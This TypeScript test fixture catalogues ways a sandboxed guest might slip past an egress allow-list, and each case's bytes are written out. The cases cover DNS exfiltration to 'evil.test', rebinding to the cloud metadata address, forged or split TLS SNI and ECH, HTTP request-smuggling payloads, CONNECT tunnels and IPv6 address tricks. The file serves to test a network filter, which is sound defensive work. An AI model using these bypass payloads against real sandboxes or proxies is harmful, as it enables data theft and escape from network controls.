/**
 * Ways in which a guest may try to reach what its policy does not allow, as data: what is sent where. `egress-probe.pl` sends it, in
 * a network namespace or in a guest. The policy is {@link ATTEMPTED_POLICY}; the names and servers are those of `egress-lab.ts`.
 */
import type { EgressPolicy } from '../../src/lib/egress-policy.ts';
import { extension, hello, helloFor, inRecords, number, serverName } from './tls-hello.ts';

export const ATTEMPTED_POLICY: EgressPolicy = {
  mode: 'allow',
  allow: [
    ...['allowed.test', '*.wild.test', 'chain.test', 'rebind.test', 'loop.test', 'meta.test', 'mixed.test'],
    ...['inward.test', 'self.test', 'db.test:5432', '203.0.113.20:8080'],
  ],
};

export interface Attempt {
  readonly name: string;
  readonly kind: 'tcp' | 'udp' | 'icmp' | 'raw';
  readonly address: string;
  /** Of raw: the protocol. */
  readonly port: number;
  readonly send: readonly Buffer[];
  /** In mode open a server sees it, or it is answered: else its failure proves nothing. */
  readonly reaches_in_open: boolean;
  /** No answer may contain this. */
  readonly forbidden?: Buffer;
}

const GOOD = '203.0.113.10';
const EVIL = '203.0.113.66';
const LITERAL = '203.0.113.20';
const FOREIGN = '203.0.113.53';
const GATEWAY = '10.0.2.2';
const RESOLVER = '10.0.2.3';

const EVIL_BYTES = Buffer.from([203, 0, 113, 66]);

function text(...parts: string[]): Buffer[] {
  return parts.map((part) => Buffer.from(part, 'latin1'));
}

export function dnsQuery(name: string, type = 1): Buffer {
  const labels = name.split('.').filter((label) => label !== '');
  return Buffer.concat([
    Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
    ...labels.map((label) => Buffer.concat([number(1, label.length), Buffer.from(label, 'latin1')])),
    Buffer.from([0]),
    number(2, type),
    number(2, 1),
  ]);
}

function framed(message: Buffer): Buffer {
  return Buffer.concat([number(2, message.length), message]);
}

const tcp = (
  name: string,
  address: string,
  port: number,
  send: readonly Buffer[] = [],
  open = true,
): Attempt => ({
  name,
  kind: 'tcp',
  address,
  port,
  send,
  reaches_in_open: open,
});
const udp = (name: string, address: string, port: number, send: readonly Buffer[], open = true): Attempt => ({
  ...tcp(name, address, port, send, open),
  kind: 'udp',
});
/** A look-up at the guest's resolver. In mode open the host's resolver answers, which this lab does not have. */
const lookUp = (name: string, asked: string, forbidden: Buffer, type = 1): Attempt => ({
  ...udp(name, RESOLVER, 53, [dnsQuery(asked, type)], false),
  forbidden,
});

const LOOK_UPS: readonly Attempt[] = [
  lookUp('look-up of a name that is not allowed', 'evil.test', EVIL_BYTES),
  lookUp('look-up in capitals with a final dot', 'EVIL.TEST.', EVIL_BYTES),
  lookUp('look-up of a name that ends like an allowed one', 'notallowed.test', EVIL_BYTES),
  lookUp('look-up below an allowed name', 'data.allowed.test', EVIL_BYTES),
  lookUp('look-up of the name above a wildcard', 'wild.test', Buffer.from([203, 0, 113, 50])),
  lookUp('look-up of a name with a NUL', 'allowed.test\u0000.evil.test', EVIL_BYTES),
  lookUp('look-up of data in a TXT record', 'secret-data.evil.test', Buffer.from('REACHED'), 16),
  lookUp('look-up of all records', 'evil.test', EVIL_BYTES, 255),
  lookUp('look-up of an HTTPS record with ECH', 'evil.test', EVIL_BYTES, 65),
  lookUp('rebinding to a private address', 'rebind.test', Buffer.from([10, 0, 0, 5])),
  lookUp('rebinding to loopback', 'loop.test', Buffer.from([127, 0, 0, 1])),
  lookUp('rebinding to the metadata service', 'meta.test', Buffer.from([169, 254, 169, 254])),
  lookUp('rebinding to the host', 'self.test', Buffer.from([198, 51, 100, 1])),
  lookUp('a private address beside a public one', 'mixed.test', Buffer.from([192, 168, 7, 7])),
  lookUp('a CNAME to a private address', 'inward.test', Buffer.from([10, 0, 0, 9])),
  lookUp('the target of an allowed CNAME, by itself', 'end.evilchain.test', Buffer.from([203, 0, 113, 40])),
  { ...udp('a foreign resolver', FOREIGN, 53, [dnsQuery('evil.test')]), forbidden: Buffer.from('REACHED') },
  {
    ...tcp('a foreign resolver by TCP', FOREIGN, 53, [framed(dnsQuery('evil.test'))]),
    forbidden: Buffer.from('REACHED'),
  },
  udp('a foreign resolver on another port', FOREIGN, 5353, [dnsQuery('evil.test')]),
  udp('data to port 53 that is no look-up', EVIL, 53, text('evil data')),
  tcp('DNS over TLS', FOREIGN, 853, [helloFor('dns.evil.test')]),
  tcp('DNS over TLS with an allowed name', FOREIGN, 853, [helloFor('allowed.test')]),
  udp('DNS over QUIC', FOREIGN, 853, text('evil')),
  tcp('DNS over HTTPS', FOREIGN, 443, [helloFor('dns.evil.test')]),
  tcp('DNS over HTTPS with an allowed name', FOREIGN, 443, [helloFor('allowed.test')]),
  tcp('DNS over HTTP', FOREIGN, 80, text('GET /dns-query?dns=evil HTTP/1.1\r\nHost: allowed.test\r\n\r\n')),
];

const ECH = extension(
  0xfe0d,
  Buffer.concat([
    Buffer.from([0, 0, 1, 0, 1, 7, 0, 32]),
    Buffer.alloc(32, 9),
    number(2, 16),
    Buffer.alloc(16, 5),
  ]),
);
const evilHello = helloFor('evil.test');
const bytesOf = (bytes: Buffer): Buffer[] => [...bytes].map((byte) => Buffer.from([byte]));

const TLS: readonly Attempt[] = [
  tcp('a name that is not allowed', EVIL, 443, [evilHello]),
  tcp('a name that is not allowed, at an allowed address', GOOD, 443, [evilHello]),
  tcp('an allowed name at another address', EVIL, 443, [helloFor('allowed.test')]),
  tcp('an allowed name in capitals at another address', EVIL, 443, [helloFor('ALLOWED.TEST')]),
  tcp('no name', EVIL, 443, [inRecords(hello([]))]),
  tcp('no name, at an allowed address', GOOD, 443, [inRecords(hello([extension(10, number(2, 0))]))]),
  tcp('an empty name', GOOD, 443, [helloFor('')]),
  tcp('an address as name', EVIL, 443, [helloFor(EVIL)]),
  tcp('a name with a NUL', GOOD, 443, [helloFor('allowed.test\u0000.evil.test')]),
  tcp('a name with a final dot', GOOD, 443, [helloFor('evil.test.')]),
  tcp('two names', GOOD, 443, [inRecords(hello([serverName('allowed.test', 'evil.test')]))]),
  tcp('two names, the other first', GOOD, 443, [inRecords(hello([serverName('evil.test', 'allowed.test')]))]),
  tcp('two extensions', GOOD, 443, [inRecords(hello([serverName('allowed.test'), serverName('evil.test')]))]),
  tcp('bytes behind the extensions', GOOD, 443, [
    inRecords(hello([serverName('allowed.test')], serverName('evil.test'))),
  ]),
  tcp('the name above a wildcard', '203.0.113.50', 443, [helloFor('wild.test')]),
  tcp('a name that ends like a wildcard', '203.0.113.50', 443, [helloFor('evilwild.test')]),
  tcp('a hello in segments of one byte', EVIL, 443, bytesOf(evilHello)),
  tcp('a hello in records of one byte', EVIL, 443, [inRecords(hello([serverName('evil.test')]), 1)]),
  tcp('a hello cut inside of its name', GOOD, 443, [evilHello.subarray(0, -4), evilHello.subarray(-4)]),
  tcp('an allowed hello in records of one byte, at another address', EVIL, 443, [
    inRecords(hello([serverName('allowed.test')]), 1),
  ]),
  tcp('ECH with another outer name', GOOD, 443, [inRecords(hello([serverName('evil.test'), ECH]))]),
  tcp('ECH with an allowed outer name at another address', EVIL, 443, [
    inRecords(hello([serverName('allowed.test'), ECH])),
  ]),
  tcp('ECH without an outer name', GOOD, 443, [inRecords(hello([ECH]))]),
  tcp('an SSLv2 hello', GOOD, 443, [Buffer.from('802e0103010015000000100000', 'hex'), ...text('evil')]),
  tcp('a record of another type first', GOOD, 443, [Buffer.from([23, 3, 3, 0, 4]), ...text('evil')]),
  tcp('SSH on port 443', EVIL, 443, text('SSH-2.0-evil\r\n')),
  tcp('SSH on port 443 of an allowed address', GOOD, 443, text('SSH-2.0-evil\r\n')),
  tcp('HTTP on port 443', GOOD, 443, text('GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n')),
  tcp('a tunnel on port 443', EVIL, 443, text('\u0001\u0002evil')),
  tcp('TLS on another port of an allowed name', GOOD, 8443, [helloFor('allowed.test')]),
  tcp('TLS on port 80', GOOD, 80, [evilHello]),
  udp('QUIC', EVIL, 443, text('evil')),
  udp('QUIC to an allowed address', GOOD, 443, text('evil')),
];

const http = (name: string, address: string, ...parts: string[]) => tcp(name, address, 80, text(...parts));
const get = (host: string, target = '/') => `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;

const HTTP: readonly Attempt[] = [
  http('a host that is not allowed', EVIL, get('evil.test')),
  http('a host that is not allowed, at an allowed address', GOOD, get('evil.test')),
  http('an allowed host at another address', EVIL, get('allowed.test')),
  http('no host', EVIL, 'GET /evil HTTP/1.0\r\n\r\n'),
  http('no host, at an allowed address', GOOD, 'GET /evil HTTP/1.0\r\n\r\n'),
  http('another host in the second request', GOOD, get('allowed.test'), get('evil.test')),
  http('another host in a request behind the first', GOOD, get('allowed.test') + get('evil.test')),
  http(
    'another host behind a chunked body',
    GOOD,
    `POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${get('evil.test')}`,
  ),
  http(
    'smuggling by length and chunks',
    GOOD,
    `POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${get('evil.test')}`,
  ),
  http(
    'smuggling by a hidden chunked',
    GOOD,
    `POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n${get('evil.test')}`,
  ),
  http(
    'another host in a body whose length Connection names',
    GOOD,
    `GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: content-length\r\nContent-Length: ${get('evil.test').length}\r\n\r\n${get('evil.test')}`,
  ),
  http('two hosts', GOOD, 'GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n'),
  http('two hosts, the other first', GOOD, 'GET / HTTP/1.1\r\nHost: evil.test\r\nHost: allowed.test\r\n\r\n'),
  http('a folded host', GOOD, 'GET / HTTP/1.1\r\nHost: allowed.test\r\n evil.test\r\n\r\n'),
  http('a space before the colon', GOOD, 'GET / HTTP/1.1\r\nHost : evil.test\r\nHost: allowed.test\r\n\r\n'),
  http('a host with a user', GOOD, get('allowed.test@evil.test')),
  http('a host with another port', GOOD, get('allowed.test:8080', '/evil')),
  http('a list of hosts', GOOD, get('allowed.test, evil.test')),
  http('a host with a NUL', GOOD, get('allowed.test\u0000.evil.test')),
  http('an address as host', EVIL, get(EVIL, '/evil')),
  http('another host in the URL', GOOD, get('allowed.test', 'http://evil.test/')),
  http('another host than in the URL', GOOD, get('evil.test', 'http://allowed.test/')),
  http('a URL with a user', GOOD, get('allowed.test', 'http://allowed.test@evil.test/')),
  http('another host in front of a path', GOOD, get('allowed.test', 'evil.test:80')),
  http('CONNECT', GOOD, 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n'),
  http('CONNECT with an allowed host', GOOD, 'CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n'),
  http(
    'CONNECT to an allowed host for evil',
    GOOD,
    'CONNECT allowed.test:22 HTTP/1.1\r\nHost: allowed.test:22\r\nevil: 1\r\n\r\n',
  ),
  http(
    'an upgrade to HTTP/2',
    GOOD,
    'GET /evil HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n',
  ),
  http(
    'a WebSocket to another host',
    GOOD,
    'GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n',
  ),
  http('HTTP/2 without upgrade', GOOD, 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nevil'),
  http('bare line feeds', GOOD, 'GET / HTTP/1.1\nHost: evil.test\n\n'),
  http('another protocol on port 80', EVIL, 'evil\r\n'),
  http('another protocol on port 80 of an allowed address', GOOD, 'SSH-2.0-evil\r\n'),
  tcp('an HTTP proxy', EVIL, 3128, text(get('allowed.test', 'http://allowed.test/'))),
  tcp(
    'an HTTP proxy at an allowed name',
    GOOD,
    3128,
    text('CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n'),
  ),
];

const PLACES: readonly Attempt[] = [
  ...[22, 25, 5432, 8080].map((port) => tcp(`port ${port} of an address`, EVIL, port, text('evil'))),
  ...[22, 5432, 8080].map((port) => tcp(`port ${port} of an allowed name`, GOOD, port, text('evil'))),
  ...[22, 443, 80].map((port) =>
    tcp(`another port (${port}) of an allowed address`, LITERAL, port, text('evil')),
  ),
  tcp('another port of a name with a port', '203.0.113.30', 22, text('evil')),
  tcp('TLS to a name that has another port', '203.0.113.30', 443, [helloFor('db.test')]),
  ...[123, 4789, 5000].map((port) => udp(`UDP to port ${port}`, EVIL, port, text('evil'))),
  udp('UDP to an allowed name', GOOD, 5000, text('evil')),
  ...[80, 443, 22].map((port) =>
    tcp(`a private address, port ${port}`, '192.168.7.7', port, [helloFor('allowed.test')], false),
  ),
  udp('a private resolver', '192.168.7.7', 53, [dnsQuery('evil.test')], false),
  tcp('the metadata service', '169.254.169.254', 80, text(get('169.254.169.254')), false),
  tcp('the metadata service by an allowed host', '169.254.169.254', 80, text(get('meta.test')), false),
  tcp('a rebinding name', '10.0.0.5', 443, [helloFor('rebind.test')], false),
  tcp('the gateway', GATEWAY, 22, text('evil'), false),
  tcp('the gate itself', GATEWAY, 7_443, [helloFor('allowed.test')], false),
  tcp("the gate's resolver itself", GATEWAY, 7_053, [framed(dnsQuery('evil.test'))], false),
  tcp("the host's public address", '198.51.100.1', 443, [helloFor('self.test')], false),
  tcp("the host's public address by HTTP", '198.51.100.1', 80, text(get('self.test')), false),
  ...[80, 443, 22].map((port) =>
    tcp(`an IPv6 address, port ${port}`, '2001:db8:9::66', port, [helloFor('allowed.test')], false),
  ),
  udp('a resolver at an IPv6 address', '2001:db8:9::66', 53, [dnsQuery('evil.test')], false),
  tcp('a mapped address', '::ffff:203.0.113.66', 443, [helloFor('allowed.test')]),
  tcp('a 6to4 address', '2002:cb00:7142::1', 443, [helloFor('allowed.test')], false),
  tcp('a NAT64 address', '64:ff9b::cb00:7142', 443, [helloFor('allowed.test')], false),
];

const PING = Buffer.from('0800f7ff0000000165766c00', 'hex');

/** They do not say where they went; the lab counts packets. */
const PACKETS: readonly Attempt[] = [
  { ...tcp('ICMP', EVIL, 1, [PING], false), kind: 'icmp' },
  { ...tcp('ICMP to an allowed name', GOOD, 1, [PING], false), kind: 'icmp' },
  ...(
    [
      ['GRE', 47],
      ['IP in IP', 4],
      ['IPv6 in IP', 41],
      ['ESP', 50],
      ['SCTP', 132],
    ] as const
  ).map(
    ([name, protocol]): Attempt => ({
      ...tcp(name, EVIL, protocol, text('evil raw packet'), false),
      kind: 'raw',
    }),
  ),
];

export const ATTEMPTS: readonly Attempt[] = [...LOOK_UPS, ...TLS, ...HTTP, ...PLACES, ...PACKETS];

/** Lines for `egress-probe.pl`. */
export function probeLines(attempts: readonly Attempt[], wait_ms: number): string {
  return attempts
    .map(({ kind, address, port, send }, id) => {
      const hex = send.map((part) => part.toString('hex')).join(',');
      return `${id} ${kind} ${address} ${port} ${wait_ms} ${hex}\n`;
    })
    .join('');
}
